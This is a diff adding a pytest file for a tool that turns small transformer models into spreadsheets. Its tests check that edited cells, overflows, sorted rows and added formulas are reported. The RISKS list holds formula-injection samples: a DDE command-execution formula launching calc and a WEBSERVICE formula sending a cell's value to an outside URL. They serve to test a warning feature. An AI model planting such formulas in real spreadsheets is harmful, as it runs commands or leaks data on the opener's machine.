@@ -1,0 +1,230 @@
+"""Cells that hold no value of their kind, or that nobody built: all are told, none ends it."""
+
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from conftest import InIronCalc, cli, random_model, typed
+from openpyxl import load_workbook
+
+import cellformer as cf
+from engine import InputError, ModelSpec
+from engine.models.generate import passage
+from exporters import anymodel, edited
+from exporters.layout import ID_ROW
+from exporters.model_book import ModelBook
+from exporters.xlsx import write
+
+HEAD = "blocks.1.attn.h0"
+SPEC = ModelSpec(3, 3, 4, n_layers=2, n_heads=1, d_head=2, d_mlp=2)
+
+
+@pytest.fixture(scope="module")
+def book() -> ModelBook:
+    model = random_model(SPEC)
+    return anymodel.build("two-layers", model, passage(model, [1, 2]))
+
+
+@pytest.fixture(scope="module")
+def path(book: ModelBook, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return write(book, tmp_path_factory.mktemp("two") / "two-layers.xlsx")
+
+
+def changed(path: Path, target: Path, change: Callable[[Any], None]) -> Path:
+    """A copy that openpyxl saves, which knows errors and truth values."""
+    sheets = load_workbook(path)
+    change(sheets)
+    sheets.save(target)
+    return target
+
+
+def put(book: ModelBook, sheets: Any, name: str, i: int, j: int, value: Any) -> str:
+    """Type into a cell of a block; gives its name."""
+    sheet, row, col = book.cell(name, i, j)
+    sheets[sheet].cell(row + 1, col + 1).value = value
+    return f"{name}[{i},{j}]"
+
+
+# what is put where, and what that is said to count as
+BAD = [
+    (f"{HEAD}.W_Q", 1, 0, "#DIV/0!", "an error: counts as 0"),
+    (f"{HEAD}.W_Q", 1, 1, "0,5", "a text: counts as 0"),
+    (f"{HEAD}.W_K", 0, 0, None, "empty: counts as 0"),
+    (f"{HEAD}.W_K", 0, 1, True, "a truth value: counts as 1"),
+    ("blocks.0.mlp.switch", 0, 0, "off", "a text: counts as 0"),
+    ("top_k", 0, 0, "many", "a text, see its note"),
+]
+OVER = [
+    (f"{HEAD}.scores", 1, 0, "hello", "a text, where a formula was"),
+    (f"{HEAD}.scores", 1, 1, "#N/A", "an error, where a formula was"),
+]
+
+
+@pytest.fixture(scope="module")
+def bad(book: ModelBook, path: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """Every one of them in one file, and a weight that is a number."""
+
+    def change(sheets: Any) -> None:
+        for name, i, j, value, _ in [*BAD, *OVER]:
+            put(book, sheets, name, i, j, value)
+        put(book, sheets, "W_E", 0, 0, 0.75)
+
+    return changed(path, tmp_path_factory.mktemp("bad") / "bad.xlsx", change)
+
+
+def test_diff_lists_every_bad_cell_and_what_it_counts_as(bad: Path) -> None:
+    done = cli("diff", bad)
+    assert done.code == 0 and done.err == ""
+    rows = {row.split()[0]: row for row in done.out.splitlines() if "[" in row}
+    for name, i, j, _, counts in [*BAD, *OVER]:
+        assert rows[f"{name}[{i},{j}]"].rstrip().endswith(counts)
+    assert "0.75" in rows["W_E[0,0]"]
+    assert f"({HEAD}.scores[1,0]) leads to is not computed" in done.out
+
+
+def test_in_python_too_and_numbers_are_computed_as_the_sheet_counts(bad: Path) -> None:
+    found = cf.read(bad)
+    assert {c.name: c.counts for c in found.inputs if c.counts} == {
+        f"{name}[{i},{j}]": counts for name, i, j, _, counts in BAD
+    }
+    assert [c.counts for c in found.overwritten] == [counts for *_, counts in OVER]
+    with pytest.raises(InputError, match="is not computed: it holds a text, where a formula was"):
+        found.live()
+
+
+def test_import_names_every_bad_weight(bad: Path, tmp_path: Path) -> None:
+    done = cli("import", bad, "-o", tmp_path / "model")
+    assert done.code == 2 and done.err.count("\n") == 1
+    found = cf.read(bad)
+    assert len(found.unheld) == 7  # the dial is of no checkpoint
+    assert all(cell.where in done.err for cell in found.unheld[:6]) and "1 more" in done.err
+    assert not (tmp_path / "model").exists()
+
+
+def test_what_bad_cells_lead_to_is_what_the_sheet_shows(
+    book: ModelBook, path: Path, tmp_path: Path
+) -> None:
+    """Texts and blanks in weights, switches, dials, as a spreadsheet program counts them."""
+    cells: dict[tuple[str, int, int], float | str] = {
+        book.cell(f"{HEAD}.W_Q", 1, 1): "0,5",
+        book.cell("blocks.0.mlp.W_in", 0, 0): "",
+        book.cell(f"{HEAD}.switch", 0, 0): "off",
+        book.cell("W_U", 2, 2): "1.000,5",
+        book.cell("top_p", 0, 0): "most",
+        book.cell("temperature", 0, 0): "cold",
+        book.cell("W_E", 1, 1): 1e30,
+    }
+    sheet = InIronCalc(path)
+    found = edited.read(typed(path, tmp_path / "edited.xlsx", cells))
+    assert len(found.inputs) == len(cells)
+    with sheet.typed(cells):
+        for name in ("logits", "tokens", "choice.chosen"):
+            place = book.places[name]
+            for i, j in place.block.whole.cells():
+                shown = sheet[(place.sheet, *place.cell(i, j))]
+                assert shown == pytest.approx(found.live()[name][i, j], rel=1e-9), (name, i, j)
+
+
+def test_an_id_that_is_none_is_told(path: Path, tmp_path: Path) -> None:
+    file = typed(path, tmp_path / "t.xlsx", {("Play", ID_ROW, 3): 99})
+    done = cli("diff", file)
+    assert done.code == 0
+    assert "99 is no id of" in done.out and "is not computed" in done.out
+
+
+def test_a_number_that_overflows_is_told(book: ModelBook, path: Path, tmp_path: Path) -> None:
+    cells = {book.cell("blocks.0.mlp.W_in", 0, 0): 1e308, book.cell("W_E", 1, 0): 1e308}
+    done = cli("diff", typed(path, tmp_path / "t.xlsx", cells))
+    assert done.code == 0
+    assert "1e+308" in done.out and "is no number: it overflows" in done.out
+
+
+# --- cells that were added ------------------------------------------------------------------------
+
+RISKS = [
+    '=WEBSERVICE("http://example.org/"&B2)',
+    "=cmd|'/C calc'!A0",
+    "=[1]Sheet1!$A$1",
+    '=HYPERLINK("http://example.org","click")',
+]
+
+
+def test_formulas_beside_ours_are_told_one_by_one(path: Path, tmp_path: Path) -> None:
+    def change(sheets: Any) -> None:
+        for k, formula in enumerate(RISKS):
+            sheets["Block 0"].cell(200 + k, 1).value = formula
+        sheets["Play"]["Z99"] = "my note"
+
+    file = changed(path, tmp_path / "t.xlsx", change)
+    done = cli("diff", file)
+    assert done.code == 0
+    assert "nothing of ours differs" in done.out
+    assert "5 cells were added, 4 of them formulas, the first at 'Block 0'!A200: =WEB" in done.out
+    for k, formula in enumerate(RISKS):
+        assert f"'Block 0'!A{200 + k}  {formula}" in done.out
+    assert "look before you open the file" in done.out
+    done = cli("import", file, "-o", tmp_path / "model")
+    assert done.code == 0
+    assert "0 changes" in done.out and "=WEBSERVICE(" in done.out
+
+
+def test_so_are_those_of_sheets_that_are_not_built_again(path: Path, tmp_path: Path) -> None:
+    def change(sheets: Any) -> None:
+        sheets["Start"]["J40"] = RISKS[0]
+        sheets.create_sheet("Mine")["A1"] = RISKS[0]
+        sheets["Mine"]["A2"] = "=1+1"
+        sheets["Source"]["C3"] = RISKS[2]
+
+    done = cli("diff", changed(path, tmp_path / "t.xlsx", change))
+    assert (
+        done.out.count("=WEBSERVICE(") == 3 and "Start!J40" in done.out
+    )  # the first is told twice
+    assert (
+        "Start!J40" in done.out
+        and "Mine!A1" in done.out
+        and "Source!C3" in done.out
+        and "=1+1" not in done.out
+    )
+
+
+def test_a_note_is_told_and_no_risk(path: Path, tmp_path: Path) -> None:
+    def change(sheets: Any) -> None:
+        sheets["Play"]["Z99"] = "my note"
+
+    done = cli("diff", changed(path, tmp_path / "t.xlsx", change))
+    assert "nothing of ours differs" in done.out and "Play!Z99: my note" in done.out
+    assert "look before" not in done.out
+
+
+# --- what stands elsewhere ------------------------------------------------------------------------
+
+
+def test_a_row_inserted_among_words_is_one_sentence(tmp_path: Path) -> None:
+    """Where no label stands beside it, the words themselves tell."""
+    file = write(cf.build("cat-sat"), tmp_path / "c.xlsx")
+    moved = changed(file, tmp_path / "m.xlsx", lambda sheets: sheets["Text"].insert_rows(9))
+    done = cli("diff", moved)
+    assert done.code == 2 and done.err.count("\n") == 1
+    assert "a row was inserted in sheet 'Text' about row" in done.err and "undo that" in done.err
+
+
+def test_a_list_that_was_sorted_is_one_sentence(tmp_path: Path) -> None:
+    built = cf.build("cat-sat")
+    file = write(built, tmp_path / "c.xlsx")
+    words = [str(word) for word in built.graph.values["text.later"][:, 0]]
+    places = [built.cell("text.later", k, 0) for k in range(len(words))]
+    cells = dict(zip(places, sorted(words, reverse=True), strict=True))
+    assert words != sorted(words, reverse=True)
+    done = cli("diff", typed(file, tmp_path / "t.xlsx", cells))
+    assert done.code == 2 and done.err.count("\n") == 1
+    assert "cells of sheet 'Text', rows " in done.err and "were sorted" in done.err
+
+
+def test_two_weights_that_change_places_are_two_edits(
+    book: ModelBook, path: Path, tmp_path: Path
+) -> None:
+    a, b = book.cell("W_E", 0, 0), book.cell("W_E", 1, 0)
+    values = [float(book.values["W_E"][i, 0]) for i in (1, 0)]
+    found = edited.read(typed(path, tmp_path / "t.xlsx", dict(zip((a, b), values, strict=True))))
+    assert [c.name for c in found.inputs] == ["W_E[0,0]", "W_E[1,0]"]
